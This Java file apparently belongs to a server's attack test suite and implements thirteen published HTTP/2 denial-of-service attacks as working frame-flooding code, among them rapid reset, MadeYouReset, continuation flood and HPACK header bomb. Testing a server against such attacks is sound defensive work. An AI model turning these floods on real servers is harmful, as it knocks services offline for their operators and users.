package sotto.attack.server.strangers;

import static sotto.testkit.Http2Frames.CONTINUATION;
import static sotto.testkit.Http2Frames.DATA;
import static sotto.testkit.Http2Frames.END_HEADERS;
import static sotto.testkit.Http2Frames.END_STREAM;
import static sotto.testkit.Http2Frames.HEADERS;
import static sotto.testkit.Http2Frames.PING;
import static sotto.testkit.Http2Frames.PRIORITY;
import static sotto.testkit.Http2Frames.RST_STREAM;
import static sotto.testkit.Http2Frames.SETTINGS;
import static sotto.testkit.Http2Frames.WINDOW_UPDATE;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import sotto.attack.server.stage.Controls;
import sotto.attack.server.stage.Party;
import sotto.attack.server.stage.ServerAttack;
import sotto.attack.server.stage.Stage;
import sotto.attack.server.stage.Stage.Deed;
import sotto.attack.server.wire.Http2Connection;
import sotto.testkit.Http2Frames;

/** The attacks on HTTP/2 that were published from 2019 to 2025, each by its name. */
final class Http2Attacks {
  private static final int CONNECTIONS = 2;
  private static final int AT_ONCE = 100;
  private static final String PATH = "/api/v1/server";
  private static final int CANCEL = 8;
  private static final int INITIAL_WINDOW = 4;
  private static final int LARGEST_FRAME = 16_384;

  private Http2Attacks() {}

  static List<ServerAttack> all() {
    return List.of(
        flood(
            "h2-rapid-reset",
            "have requests worked on that no one waits for (CVE-2023-44487)",
            "opened streams with requests and reset each at once",
            Http2Attacks::rapidReset),
        flood(
            "h2-made-you-reset",
            "have the server itself reset streams whose requests it goes on with (CVE-2025-8671)",
            "sent a request and then a window update of 0 on each stream",
            Http2Attacks::madeYouReset),
        flood(
            "h2-reset-flood",
            "fill the server's queue with resets (CVE-2019-9514)",
            "sent data on streams that it had closed",
            Http2Attacks::resetFlood),
        flood(
            "h2-ping-flood",
            "fill the server's queue with answers (CVE-2019-9512)",
            "sent pings by the hundred and read no answer",
            Http2Attacks::pings),
        flood(
            "h2-settings-flood",
            "fill the server's queue with acknowledgements (CVE-2019-9515)",
            "sent settings by the hundred and read no answer",
            Http2Attacks::settings),
        flood(
            "h2-empty-frames",
            "cost work by frames that bring nothing (CVE-2019-9518)",
            "sent empty frames of data without end",
            Http2Attacks::emptyFrames),
        flood(
            "h2-continuation-flood",
            "have headers collected without end (CVE-2024-27316)",
            "sent headers and then continuations that never end them",
            Http2Attacks::continuations),
        flood(
            "h2-header-bomb",
            "make a small request a large one in memory (CVE-2016-6581)",
            "put one field of 3,000 bytes into the table and repeated it thousands of times",
            Http2Attacks::headerBomb),
        flood(
            "h2-empty-headers",
            "keep headers in memory that count for nothing (CVE-2019-9516)",
            "sent thousands of fields with empty names and values",
            Http2Attacks::emptyHeaders),
        flood(
            "h2-data-dribble",
            "have answers cut into single bytes (CVE-2019-9511)",
            "asked for the web client on a hundred streams, with a window of one byte",
            Http2Attacks::dribble),
        flood(
            "h2-window-zero",
            "have answers wait in memory",
            "asked for the web client on a hundred streams and opened no window",
            Http2Attacks::windowZero),
        flood(
            "h2-internal-data-buffering",
            "have answers wait in memory below HTTP/2 (CVE-2019-9517)",
            "opened every window and read nothing from the connection",
            Http2Attacks::unread),
        flood(
            "h2-priority-flood",
            "have the order of streams computed again and again (CVE-2019-9513)",
            "sent priorities of a hundred streams without end",
            Http2Attacks::priorities));
  }

  private static ServerAttack flood(String id, String aim, String did, ServerAttack.Script script) {
    return new ServerAttack(id, Party.STRANGER, aim, did, script, Controls::http2);
  }

  /** Frames of a connection that are sent together. */
  private interface Frames {
    void addTo(Http2Connection connection, ByteArrayOutputStream frames) throws Exception;
  }

  private static void repeat(Stage stage, boolean reads, Frames frames, int... settings)
      throws InterruptedException {
    stage.floodOver(
        CONNECTIONS,
        () -> {
          Http2Connection connection =
              stage.keep(Http2Connection.open(stage.server(), Stage.ADDRESS, settings));
          if (reads) {
            Http2Connection _ = connection.reading();
          }
          return (Deed)
              () -> {
                ByteArrayOutputStream some = new ByteArrayOutputStream();
                for (int i = 0; i < AT_ONCE; i++) {
                  frames.addTo(connection, some);
                }
                connection.write(some.toByteArray());
              };
        });
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return Http2Frames.encode(type, flags, stream, payload);
  }

  private static byte[] get(int stream, String path) {
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, Http2Connection.request("GET", path));
  }

  private static byte[] number(int value) {
    return ByteBuffer.allocate(4).putInt(value).array();
  }

  private static void rapidReset(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> {
          int stream = connection.nextStream();
          frames.writeBytes(get(stream, PATH));
          frames.writeBytes(frame(RST_STREAM, 0, stream, number(CANCEL)));
        });
  }

  private static void madeYouReset(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> {
          int stream = connection.nextStream();
          frames.writeBytes(get(stream, PATH));
          frames.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(0)));
        });
  }

  private static void resetFlood(Stage stage) throws Exception {
    repeat(
        stage,
        false,
        (connection, frames) -> {
          int stream = connection.nextStream();
          frames.writeBytes(get(stream, PATH));
          frames.writeBytes(frame(DATA, 0, stream, new byte[1]));
        });
  }

  private static void pings(Stage stage) throws Exception {
    byte[] ping = frame(PING, 0, 0, new byte[8]);
    repeat(stage, false, (_, frames) -> frames.writeBytes(ping));
  }

  private static void settings(Stage stage) throws Exception {
    byte[] settings = frame(SETTINGS, 0, 0, new byte[0]);
    repeat(stage, false, (_, frames) -> frames.writeBytes(settings));
  }

  private static void emptyFrames(Stage stage) throws Exception {
    stage.floodOver(
        CONNECTIONS,
        () -> {
          Http2Connection connection =
              stage.keep(Http2Connection.open(stage.server(), Stage.ADDRESS).reading());
          int stream = connection.nextStream();
          connection.frame(HEADERS, END_HEADERS, stream, Http2Connection.request("POST", PATH));
          byte[] empty = frame(DATA, 0, stream, new byte[0]);
          byte[] many = new byte[empty.length * AT_ONCE];
          for (int i = 0; i < AT_ONCE; i++) {
            System.arraycopy(empty, 0, many, i * empty.length, empty.length);
          }
          return () -> connection.write(many);
        });
  }

  private static void continuations(Stage stage) throws Exception {
    stage.floodOver(
        CONNECTIONS,
        () -> {
          Http2Connection connection =
              stage.keep(Http2Connection.open(stage.server(), Stage.ADDRESS).reading());
          int stream = connection.nextStream();
          connection.frame(HEADERS, 0, stream, Http2Connection.request("GET", PATH));
          byte[] more =
              frame(CONTINUATION, 0, stream, Http2Connection.indexed("x", "y".repeat(1000)));
          return () -> connection.write(more);
        });
  }

  private static void headerBomb(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> {
          byte[] field = Http2Connection.indexed("x", "y".repeat(3_000));
          byte[] request = Http2Connection.request("GET", PATH);
          byte[] bomb = Arrays.copyOf(request, LARGEST_FRAME);
          System.arraycopy(field, 0, bomb, request.length, field.length);
          Arrays.fill(
              bomb, request.length + field.length, bomb.length, Http2Connection.LAST_INDEXED);
          frames.writeBytes(
              frame(HEADERS, END_STREAM | END_HEADERS, connection.nextStream(), bomb));
        });
  }

  private static void emptyHeaders(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> {
          // Zeros: a literal field with an empty name and an empty value takes three of them.
          byte[] request = Http2Connection.request("GET", PATH);
          byte[] headers = Arrays.copyOf(request, request.length + 15_000);
          frames.writeBytes(
              frame(HEADERS, END_STREAM | END_HEADERS, connection.nextStream(), headers));
        });
  }

  private static void dribble(Stage stage) throws Exception {
    stage.floodOver(
        CONNECTIONS,
        () -> {
          Http2Connection connection =
              stage.keep(
                  Http2Connection.open(stage.server(), Stage.ADDRESS, INITIAL_WINDOW, 1).reading());
          ByteArrayOutputStream windows = new ByteArrayOutputStream();
          for (int i = 0; i < AT_ONCE; i++) {
            int stream = connection.get("/");
            windows.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(1)));
          }
          return () -> connection.write(windows.toByteArray());
        });
  }

  private static void windowZero(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> frames.writeBytes(get(connection.nextStream(), "/")),
        INITIAL_WINDOW,
        0);
  }

  private static void unread(Stage stage) throws Exception {
    repeat(
        stage,
        false,
        (connection, frames) -> frames.writeBytes(get(connection.nextStream(), "/")),
        INITIAL_WINDOW,
        Integer.MAX_VALUE);
  }

  private static void priorities(Stage stage) throws Exception {
    repeat(
        stage,
        true,
        (connection, frames) -> {
          int stream = connection.nextStream();
          ByteBuffer priority =
              ByteBuffer.allocate(5).putInt(Math.max(0, stream - 2)).put((byte) 255);
          frames.writeBytes(frame(PRIORITY, 0, stream, priority.array()));
        });
  }
}
